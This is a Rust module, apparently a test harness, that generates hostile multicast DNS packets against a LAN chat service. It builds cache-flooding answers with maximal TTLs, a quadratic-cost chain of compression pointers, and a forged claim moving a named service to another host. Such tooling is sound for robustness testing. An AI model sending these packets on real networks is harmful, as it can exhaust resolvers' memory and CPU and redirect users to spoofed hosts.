//! Unsolicited multicast DNS packets (RFC 6762), as a malicious host sends them.

use std::net::Ipv4Addr;

/// The multicast DNS group (RFC 6762 §3).
pub const GROUP: Ipv4Addr = Ipv4Addr::new(224, 0, 0, 251);
/// The multicast DNS port.
pub const PORT: u16 = 5353;
/// The largest packet: what one Ethernet frame carries.
const PACKET_BYTES_MAX: usize = 1452;
/// The longest message of multicast DNS.
const LONGEST_BYTES: usize = 9000;
const HEADER_BYTES: usize = 12;
/// The bits that make two bytes a pointer to a name (RFC 1035 §4.1.4).
const POINTER: u16 = 0xc000;
/// The number of pointers, and of bytes of the names that follow them.
const POINTERS: u16 = 2200;
/// The size of a record without data whose name is a pointer.
const RECORD_BYTES: usize = 12;
/// The longest time to live that the field can hold: 68 years.
const TTL: u32 = 1 << 31;
/// IN, with the bit that says "forget what others say" (RFC 6762 §10.2).
const CLASS: u16 = 0x8001;
/// The end of the records' names, as labels.
const LOCAL: &[u8] = b"\x05local\0";
const SERVICE: &[u8] = b"\x08_lanchat\x04_tcp\x05local\0";

/// A type of resource record.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Record {
    /// An IPv4 address.
    A,
    /// An IPv6 address.
    Aaaa,
    /// Host and port of a service.
    Srv,
    /// What a service says about itself.
    Txt,
    /// Which types a name has.
    Nsec,
    /// A service of a type.
    Ptr,
}

impl Record {
    /// All of them.
    pub const ALL: [Self; 6] = [Self::A, Self::Aaaa, Self::Srv, Self::Txt, Self::Nsec, Self::Ptr];

    /// Returns its number (RFC 1035 §3.2.2, RFC 3596, RFC 2782, RFC 4034).
    fn number(self) -> u16 {
        match self {
            Self::A => 1,
            Self::Ptr => 12,
            Self::Txt => 16,
            Self::Aaaa => 28,
            Self::Srv => 33,
            Self::Nsec => 47,
        }
    }

    /// Appends a record that is unique to this serial.
    fn write(self, serial: u64, out: &mut Vec<u8>) {
        let label = label(serial);
        match self {
            Self::A | Self::Aaaa | Self::Nsec => out.extend([&label[..], LOCAL].concat()),
            Self::Srv | Self::Txt => out.extend([&label[..], SERVICE].concat()),
            Self::Ptr => out.extend_from_slice(SERVICE),
        }
        out.extend(self.number().to_be_bytes());
        out.extend(CLASS.to_be_bytes());
        out.extend(TTL.to_be_bytes());
        let data = match self {
            Self::A => (serial as u32).to_be_bytes().to_vec(),
            Self::Aaaa => [&[0xfd, 0, 0, 0, 0, 0, 0, 0][..], &serial.to_be_bytes()].concat(),
            Self::Srv => [&[0, 0, 0, 0, 0x1b, 0xa0][..], &label, LOCAL].concat(),
            Self::Txt => [&[60][..], &[b'x'; 60]].concat(),
            // The name has an address and nothing else.
            Self::Nsec => [&label[..], LOCAL, &[0, 1, 0x40]].concat(),
            Self::Ptr => [&label[..], SERVICE].concat(),
        };
        out.extend((data.len() as u16).to_be_bytes());
        out.extend(data);
    }
}

/// Returns a label of 16 digits.
fn label(serial: u64) -> Vec<u8> {
    [&[16][..], format!("{serial:016x}").as_bytes()].concat()
}

/// Returns an unsolicited answer, full of records of these types in turn; `serial` counts them, so that two packets
/// never share a record.
pub fn answer(records: &[Record], serial: &mut u64) -> Vec<u8> {
    let mut packet = vec![0, 0, 0x84, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    let mut count = 0_u16;
    for record in records.iter().cycle() {
        let whole = packet.len();
        record.write(*serial, &mut packet);
        if packet.len() > PACKET_BYTES_MAX {
            packet.truncate(whole);
            break;
        }
        *serial += 1;
        count += 1;
    }
    if let Some(place) = packet.get_mut(6..8) {
        place.copy_from_slice(&count.to_be_bytes());
    }
    packet
}

/// Returns a question for all lanchat servers.
pub fn question() -> Vec<u8> {
    let header = [0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    [&header[..], SERVICE, &[0, 12, 0, 1]].concat()
}

/// Returns a message of the greatest length (RFC 6762 §17), full of names that each point to an earlier one, and so on:
/// the work of its reader grows with the square of its length.
pub fn pointers() -> Vec<u8> {
    let mut packet = vec![0; HEADER_BYTES];
    // A record of an unknown type, whose data are pointers.
    packet.extend([0, 0xff, 0, 0, 1, 0, 0, 0, 0]);
    packet.extend((POINTERS * 2).to_be_bytes());
    let mut last = HEADER_BYTES as u16;
    for _ in 0..POINTERS {
        let at = packet.len() as u16;
        packet.extend((POINTER | last).to_be_bytes());
        last = at;
    }
    let mut records = 1_u16;
    while packet.len() + RECORD_BYTES <= LONGEST_BYTES {
        packet.extend((POINTER | last).to_be_bytes());
        packet.extend([0xff, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
        records += 1;
    }
    if let Some(place) = packet.get_mut(6..8) {
        place.copy_from_slice(&records.to_be_bytes());
    }
    packet
}

/// Returns a claim that the service of this name is on another host (RFC 6762 §9).
pub fn claim(instance: &str, serial: u64) -> Vec<u8> {
    let mut packet = vec![0, 0, 0x84, 0, 0, 0, 0, 1, 0, 0, 0, 0];
    packet.extend([&[instance.len() as u8][..], instance.as_bytes(), SERVICE].concat());
    packet.extend([Record::Srv.number().to_be_bytes(), CLASS.to_be_bytes()].concat());
    packet.extend(TTL.to_be_bytes());
    let data = [&[0, 0, 0, 0, 0x1b, 0xa0][..], &label(serial), LOCAL].concat();
    packet.extend((data.len() as u16).to_be_bytes());
    packet.extend(data);
    packet
}

/// Returns whether a packet is an answer about a lanchat service whose name begins with `instance`.
pub fn tells_of(packet: &[u8], instance: &str) -> bool {
    let is_answer = packet.get(2).is_some_and(|flags| flags & 0x80 != 0);
    is_answer
        && memchr::memmem::find(packet, b"\x08_lanchat\x04_tcp").is_some()
        && memchr::memmem::find(packet, instance.as_bytes()).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn packets_fit_a_frame_and_no_two_are_alike() {
        for records in Record::ALL.map(|record| vec![record]).iter().chain([&Record::ALL.to_vec()]) {
            let mut serial = 0;
            let (one, other) = (answer(records, &mut serial), answer(records, &mut serial));
            assert!(one.len() <= PACKET_BYTES_MAX && one.len() > PACKET_BYTES_MAX - 150, "{}", one.len());
            assert!(one != other && serial > 10, "{records:?}");
            let count = u16::from_be_bytes([other[6], other[7]]);
            assert!(u64::from(count) <= serial && count > 5, "{records:?}: {count}");
        }
    }

    #[test]
    fn pointers_fill_the_longest_message() {
        let packet = pointers();
        assert!(packet.len() <= LONGEST_BYTES && packet.len() > LONGEST_BYTES - RECORD_BYTES);
        assert!(u16::from_be_bytes([packet[6], packet[7]]) > 300);
    }

    #[test]
    fn an_answer_is_told_from_a_question() {
        assert!(tells_of(&claim("lab", 7), "lab"));
        assert!(!tells_of(&claim("lab", 7), "den"));
        assert!(!tells_of(&question(), ""));
    }
}
